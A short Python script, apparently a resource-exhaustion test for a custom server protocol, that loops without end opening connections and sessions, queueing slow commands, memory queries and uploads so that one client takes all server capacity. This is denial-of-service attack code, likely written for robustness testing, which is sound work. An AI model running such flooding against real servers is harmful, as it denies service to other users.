"""As many sessions as the server takes, and each holds a little of everything: objects, uploads that wait behind an
event, answers that nobody reads.

Before: 1024 sessions with 32 MiB of windows each, beside what no window counts; from one client, and then nobody else
has one.
"""

import time

import wire
from attack import Attack, Target, run
from sessions import CONTEXT, Session

SESSIONS_OF_CONNECTION = 64


def crowd(target: Target) -> None:
    connections = []
    while True:
        connection = target.connect(len(connections), window=0, refill=False)
        connections.append(connection)
        for _ in range(SESSIONS_OF_CONNECTION):
            session = Session(connection).begin(streams=2)
            session.allocate(1, 64 << 10)
            # Something that takes long, so that what comes behind waits.
            session.send(
                wire.EXECUTE, wire.field(1, wire.l1_loss([1 << 30], 1)) + wire.field(3, 1), [wire.floats(1.0)]
            )
            session.send_group([session.command(wire.QUERY_MEMORY, wire.field(1, CONTEXT)) for _ in range(200)])
            session.upload(1, bytes(64 << 10))
            connection.poll(0)
        if len(connections) > 16:
            time.sleep(target.seconds)


if __name__ == "__main__":
    run(Attack([crowd], rss_mib=500, spares=["medium"]))
